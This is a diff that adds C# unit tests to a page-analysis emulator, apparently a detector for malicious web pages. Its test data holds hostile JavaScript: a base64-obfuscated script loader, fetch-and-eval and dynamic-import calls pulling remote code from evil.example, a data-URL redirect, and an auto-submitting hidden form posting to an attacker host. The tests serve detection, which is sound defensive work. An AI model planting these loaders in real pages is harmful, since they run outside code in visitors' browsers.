@@ -126,6 +126,32 @@ public sealed class PageTests
         Assert.True(log.Behaviours.Count == 0, $"{what}: {log.Told()}");
     }
 
+    [Theory]
+    [InlineData("import('https://evil.example/m.js')")]
+    [InlineData("var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbS5qcw==');document.head.appendChild(s)")]
+    [InlineData("fetch('https://evil.example/m.js').then(r=>r.text()).then(t=>eval(t))")]
+    public void A_page_that_is_made_by_code_of_another_site_runs_it(string code)
+    {
+        var log = Emulated.PageScript(code);
+        Assert.True(log.Behaviours.Any(seen => seen.Kind == BehaviourKind.Execute && seen.Value.EndsWith("https://evil.example/m.js", StringComparison.Ordinal)), log.Told());
+    }
+
+    [Fact]
+    public void A_module_in_a_data_address_is_run()
+    {
+        Assert.True(Emulated.PageScript("import('data:text/javascript,location=%22https://evil.example/a%22')").Did(BehaviourKind.Redirect));
+    }
+
+    [Theory]
+    [InlineData("https://res.cisco.com/websafe/help", "eHh4", false)]
+    [InlineData("https://res.cisco.com/websafe/help", "https://evil.example/", true)]
+    [InlineData("https://evil.example/p", "eHh4", true)]
+    public void A_form_sent_by_itself_leads_on_unless_it_delivers_to_a_known_portal(string action, string value, bool leads)
+    {
+        var log = Emulated.Page($"<body onload='document.f.submit()'><form name=f method=post action='{action}'><input type=hidden name=m value='{value}'></form></body>");
+        Assert.Equal(leads, log.Did(BehaviourKind.Redirect));
+    }
+
     private static (string Key, string Iv, string Secret) Encrypted(string cipher)
     {
         var key = Enumerable.Range(3, 16).Select(number => (byte)(number * 7)).ToArray();
